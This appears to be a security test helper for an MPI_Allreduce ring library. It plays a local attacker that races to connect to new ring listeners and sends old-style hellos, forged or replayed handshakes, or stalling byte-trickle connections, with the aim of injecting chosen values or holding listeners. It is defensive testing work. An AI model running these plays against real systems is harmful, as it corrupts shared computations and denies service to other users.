"""An unprivileged local user against the MPI_Allreduce library's ring (tests/test_ring_security.py).

Run as uid nobody inside a testbed host's network namespace, with the system python (stdlib
only). It asks sock_diag (as `ss -ltn` does) over and over for new listening sockets on the host's
ring address with the ring listener's backlog (`ss -ltn` shows it as Send-Q), and the moment one
appears connects to it and plays one of:

- ``old``: the hello of the library before issue 28 (a public constant: magic, size, left + 1, 1),
  then float values of its choosing;
- ``forged``: a well-formed HELLO of today's handshake (it is public too) with its own nonce,
  then, if challenged, a PROOF of random bits and its values;
- ``replay``: a valid HELLO and PROOF captured from an earlier setup (``--capture``, written by
  tests/ring_sniffer.py as root), then its values;
- ``silent``: connects and sends nothing; ``trickle``: one byte of a HELLO every 0.5 s.

``--modes`` is the cycle of plays, one per pair of listeners. It starts attacking when the capture file
exists (if one is named), so every attacked setup can be a replay. One JSON line per attack on
stdout: what it sent and what it got back.
"""
import argparse
import json
import os
import random
import socket
import struct
import sys
import threading
import time

MAGIC = 20181024.0
VALUES = struct.pack("<256f", *([1000.0] * 256))   # what it would like the sum to include (exact through the codec)


NETLINK_SOCK_DIAG, SOCK_DIAG_BY_FAMILY, NLM_F_REQUEST, NLM_F_DUMP, NLMSG_DONE = 4, 20, 1, 0x300, 3
TCP_LISTEN = 10


def diag_socket() -> socket.socket:
    return socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_SOCK_DIAG)


def listeners(nl: socket.socket, addr: bytes, backlog: int) -> dict:
    """{inode: port} of the TCP sockets listening on addr with that backlog, from sock_diag (what
    `ss -ltn` asks; its Send-Q column is the backlog)."""
    req = struct.pack("<BBBBI", socket.AF_INET, socket.IPPROTO_TCP, 0, 0, 1 << TCP_LISTEN) + bytes(48)
    nl.send(struct.pack("<IHHII", 16 + len(req), SOCK_DIAG_BY_FAMILY, NLM_F_REQUEST | NLM_F_DUMP, 1, 0) + req)
    out = {}
    while True:
        data = nl.recv(65536)
        off = 0
        while off + 16 <= len(data):
            length, kind = struct.unpack_from("<IH", data, off)
            if kind == NLMSG_DONE or length < 16:
                return out
            msg = data[off + 16: off + length]
            if kind == SOCK_DIAG_BY_FAMILY and len(msg) >= 72:
                sport = struct.unpack_from("!H", msg, 4)[0]
                src = msg[8:12]
                wqueue, _, inode = struct.unpack_from("<III", msg, 60)
                if src == addr and wqueue == backlog:
                    out[inode] = sport
            off += (length + 3) & ~3


def recv_exact(s: socket.socket, n: int, timeout: float) -> bytes:
    s.settimeout(timeout)
    buf = b""
    try:
        while len(buf) < n:
            b = s.recv(n - len(buf))
            if not b:
                break
            buf += b
    except OSError:
        pass
    return buf


def closed_within(s: socket.socket, timeout: float) -> bool:
    """Whether the other side closes the connection (EOF or reset) within timeout."""
    s.settimeout(timeout)
    try:
        while True:
            b = s.recv(4096)
            if not b:
                return True
    except socket.timeout:
        return False
    except OSError:
        return True


def attack(s: socket.socket, rec: dict, args, out_lock) -> None:
    mode = rec["mode"]
    try:
        t0 = time.monotonic()
        if mode == "old":
            s.sendall(struct.pack("<4f", MAGIC, args.size, args.left + 1, 1.0) + VALUES)
            rec["closed"] = closed_within(s, 3)
        elif mode in ("forged", "replay"):
            proof = rec.pop("proof")    # the hello went out with the connect
            challenge = recv_exact(s, 104, 3)
            rec["challenged"] = len(challenge) == 104
            if rec["challenged"]:
                s.sendall(proof + VALUES)
            rec["closed"] = closed_within(s, 3)
        elif mode == "silent":
            rec["closed"] = closed_within(s, args.hold)
        elif mode == "trickle":
            hello = struct.pack("<4f", MAGIC, 2.0, args.size, args.left + 1) + bytes(32)
            closed = False
            for i in range(int(args.hold / 0.5)):
                try:
                    s.send(hello[i % len(hello): i % len(hello) + 1])
                except OSError:
                    closed = True
                    break
                if closed_within(s, 0.5):
                    closed = True
                    break
            rec["closed"] = closed
        rec["held_s"] = round(time.monotonic() - t0, 3)
    except OSError as e:
        rec["error"] = e.strerror or str(e)
    finally:
        s.close()
    with out_lock:
        print(json.dumps(rec), flush=True)


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("--addr", required=True)
    p.add_argument("--backlog", type=int, default=64)
    p.add_argument("--modes", default="old,forged,replay")
    p.add_argument("--capture", default="")
    p.add_argument("--size", type=float, default=4.0)
    p.add_argument("--left", type=float, default=2.0)
    p.add_argument("--hold", type=float, default=20.0)
    p.add_argument("--seconds", type=float, default=120.0)
    args = p.parse_args()
    addr = socket.inet_aton(args.addr)
    nl = diag_socket()
    modes = args.modes.split(",")
    lock = threading.Lock()
    end = time.monotonic() + args.seconds
    while args.capture and not os.path.exists(args.capture):
        if time.monotonic() > end:
            return
        time.sleep(0.01)
    capture = open(args.capture, "rb").read() if args.capture else b""
    known = set(listeners(nl, addr, args.backlog))   # a setup under way when the capture came is not attacked
    print(json.dumps({"ready": True}), flush=True)
    n = 0
    while time.monotonic() < end:
        now = listeners(nl, addr, args.backlog)
        for inode, port in now.items():
            if inode not in known:
                known.add(inode)
                seen = time.monotonic()
                # a setup opens two listeners here (ranks 2 and 3): both get the same play
                rec = {"n": n, "port": port, "mode": modes[n // 2 % len(modes)]}
                n += 1
                s = socket.socket()
                try:
                    s.connect((args.addr, port))     # here, not in the thread: every microsecond counts
                except OSError as e:
                    rec["error"] = e.strerror or str(e)
                    s.close()
                    with lock:
                        print(json.dumps(rec), flush=True)
                    continue
                rec["connect_us"] = round((time.monotonic() - seen) * 1e6)
                if rec["mode"] in ("forged", "replay"):
                    if rec["mode"] == "forged":
                        nonce = [1.0 + random.getrandbits(16) for _ in range(8)]
                        hello = struct.pack("<12f", MAGIC, 2.0, args.size, args.left + 1, *nonce)
                        rec["proof"] = struct.pack("<16f", *[1.0 + random.getrandbits(16) for _ in range(16)])
                    else:
                        hello, rec["proof"] = capture[:48], capture[48:112]
                    try:
                        s.send(hello)
                    except OSError:
                        pass
                threading.Thread(target=attack, args=(s, rec, args, lock), daemon=True).start()
        time.sleep(0.0002)


if __name__ == "__main__":
    sys.exit(main())
